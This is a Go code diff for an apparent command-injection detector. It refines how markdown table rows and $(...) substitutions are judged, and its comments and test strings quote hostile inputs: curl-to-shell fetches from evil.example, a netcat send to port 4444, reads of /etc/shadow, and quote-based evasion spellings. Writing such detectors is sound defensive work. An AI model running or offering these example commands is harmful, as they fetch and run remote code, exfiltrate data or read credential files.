@@ -58,18 +58,28 @@ import (
 // while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not.
 //
 // What tells a pasted command line from an injection is where the command stands: a
-// value, a line of a post or the cells of a markdown table ("| id | name |") that open
-// with it are the writer's own; a separator after a token of data is a breakout. So on
-// the writer's own lines a published installer piped into a shell passes (curl or wget
-// with options and one https URL on a named host, to standard output: the rustup, nvm,
-// nodesource and Homebrew one-liners, also as bash -c "$(curl ...)"), a $(...) that is
-// an argument of a command line with options is judged as a command opening a value
-// ("docker run -v $(pwd):/app", "--user $(id -u)"), and batch IF/FOR statements in a
+// value, a line of a post or the cells of a markdown table that open with it are the
+// writer's own; a separator after a token of data is a breakout. So on the writer's own
+// lines a published installer piped into a shell passes (curl or wget with options and
+// one https URL on a named host, to standard output: the rustup, nvm, nodesource and
+// Homebrew one-liners, also as bash -c "$(curl ...)"), and batch IF/FOR statements in a
 // post or script are not flagged by themselves. An http URL, an address, an output
 // file or an expansion in the fetch, or the same line after a breakout
-// ("x;curl https://sh.rustup.rs | sh"), still matches. The price: a webshell run as
-// "?cmd=ls -la", "?cmd=ansible-inventory --list" or "?cmd=curl https://evil.example/x|sh"
-// is not flagged.
+// ("x;curl https://sh.rustup.rs | sh"), still matches. The installer passes because
+// such a line runs only where the whole value is run (a webshell), which the rule for
+// whole command lines gives up anyway, while install lines are pasted in tickets and
+// docs daily. The price: a webshell run as "?cmd=ls -la", "?cmd=ansible-inventory
+// --list" or "?cmd=curl https://evil.example/x|sh" is not flagged.
+//
+// A $(...) that is an argument of a command line with options passes only when it
+// holds one read-only command printing a fact ("docker run -v $(pwd):/app", "--user
+// $(id -u):$(id -g)", $(whoami), $(date +%F), $(uname -m), $(git rev-parse HEAD); see
+// infoSubst); anything else in it counts as in any substitution, in double quotes too
+// ("a -b $(wget -q https://evil.example/x.sh)", "-o $(sleep 10)", "-o $(id)").
+// A markdown table row counts as one only in a table's shape: next to another row or
+// a |---| line (no shell runs such lines), or alone with padded cells and no pipeline
+// ("| id | name |"; not "|curl -fsSL https://x|sh|" nor "| curl https://x | sh |"),
+// and no installer passes in its cells.
 //
 // Command words are read the way a shell reads them, so evasions fold away: quotes and
 // backslashes inside a word (c'a't, who\ami, ""p""y""t""h""o""n, $'who'ami), empty expansions and
@@ -579,7 +589,8 @@ func probeToken(t string) bool {
 // line: its closing '|' continues a pipeline that the next line's opening '|' breaks),
 // or, for a row alone, cells padded with spaces and no pipeline in them: no two
 // neighbouring cells that both open with a listed command, one of them with arguments
-// or the second a shell or interpreter. So "| id | name |" and a real table pass, while
+// or the second a shell or interpreter, and no shell or interpreter after a cell that
+// opens with a listed command with arguments or a network tool. So "| id | name |" and a real table pass, while
 // "|curl -fsSL https://x|sh|" and "| curl -fsSL https://x | sh |" are pipes. It
 // returns the end of the line too.
 func tableRow(v string, i int) (int, bool) {
@@ -630,7 +641,7 @@ func tableRow(v string, i int) (int, bool) {
 		}
 	}
 	// A row alone: padded cells, no pipeline.
-	prev, prevArgs := uint16(0), false
+	prev, prevArgs, feed := uint16(0), false, false
 	for _, c := range cells {
 		if len(c) < 3 || c[0] != ' ' && c[0] != '\t' || c[len(c)-1] != ' ' && c[len(c)-1] != '\t' {
 			return end, false
@@ -640,10 +651,14 @@ func tableRow(v string, i int) (int, bool) {
 		w, n := lowerWord(buf[:], c, 0, isCmdByte)
 		class := cmdTable[string(trimVersion(w))]
 		args := n < len(c)
-		if prev != 0 && class != 0 && (prevArgs || args || class&(cmdPipe|cmdShell|cmdInterp) != 0) {
-			return end, false
+		switch {
+		case prev != 0 && class != 0 && (prevArgs || args || class&(cmdPipe|cmdShell|cmdInterp) != 0):
+			return end, false // "| cat x | nc host 4444 |", "| id | sh |"
+		case feed && class&(cmdPipe|cmdShell|cmdInterp) != 0:
+			return end, false // "| curl https://x | xz -d | sh |"
 		}
 		prev, prevArgs = class, args
+		feed = feed || class != 0 && (args || class&cmdNet != 0)
 	}
 	return end, true
 }
